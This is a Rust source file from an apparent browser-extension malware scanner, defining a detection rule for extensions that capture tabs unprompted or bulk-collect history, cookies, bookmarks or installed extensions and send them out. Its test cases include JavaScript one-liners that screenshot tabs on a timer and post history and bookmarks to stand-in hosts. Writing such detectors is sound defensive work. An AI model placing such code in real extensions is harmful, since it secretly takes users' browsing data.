//! `browser-data-taken`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "browser-data-taken",
    description: "An extension takes pictures of tabs by itself, or collects what the browser keeps of its user, and sends it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Picture, Atom::BrowserData])],
    within: 0,
    only_if: Some(holds),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(()=>{chrome.tabs.captureVisibleTab(null,{format:'jpeg'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})},3000)",
            "chrome.history.search({text:'',maxResults:100000},h=>chrome.bookmarks.getTree(b=>fetch('https://up.example/p',{method:'POST',body:JSON.stringify([h,b])})))",
        ],
        without: &[
            "chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
            "chrome.tabs.onUpdated.addListener(f);chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{save(p)})",
            "chrome.bookmarks.getTree(b=>fetch('https://sync.example/p',{method:'POST',body:JSON.stringify(b)}))",
            "chrome.history.search({text:q},h=>chrome.bookmarks.search(q,b=>show(h,b)))",
        ],
    },
};

/// One of the ways in which it is done.
fn holds(evidence: &Evidence<'_>, held: Held) -> bool {
    takes_pictures(evidence, held) || collects(evidence, held)
}

/// Whether it is an extension that takes the picture, and what the browser does or a clock says when.
fn takes_pictures(evidence: &Evidence<'_>, held: Held) -> bool {
    if !Near::is_place_of(evidence, held, &[Atom::Picture]) {
        return false;
    }
    let near = Near::new(evidence, held, 220);
    let takes = near.has_word(&["captureVisibleTab"])
        || near.words(&["capture"]).any(|at| near.word(at.wrapping_sub(1)) == "tabCapture");
    let by_itself =
        near.has_word(&["setInterval", "onUpdated", "onActivated", "onAlarm", "onCommitted", "onCompleted"]);
    takes
        && by_itself
        && near.has_text(&["https://", "http://"])
        && near.has_fact(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod])
}

/// Whether two kinds of what a browser keeps are asked for as a whole, one of them the history, the sessions or other extensions.
fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
    if !Near::is_place_of(evidence, held, &[Atom::BrowserData]) {
        return false;
    }
    let near = Near::new(evidence, held, 220);
    let asked = |of: &'static str, by: &'static [&'static str]| {
        near.places().any(|at| near.word(at) == of && by.contains(&near.word(at + 1)))
    };
    let kinds = [
        asked("history", &["search"]),
        asked("cookies", &["getAll"]),
        asked("management", &["getAll"]),
        asked("bookmarks", &["getTree", "search", "getRecent"]),
        asked("topSites", &["get"]),
        asked("downloads", &["search"]),
    ];
    let private = kinds[..3].iter().any(|kind| *kind);
    let leaves = [Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon];
    private
        && near.has_fact(&leaves)
        && kinds.iter().filter(|kind| **kind).count() >= 2
        && near.has_text(&["https://", "http://"])
}
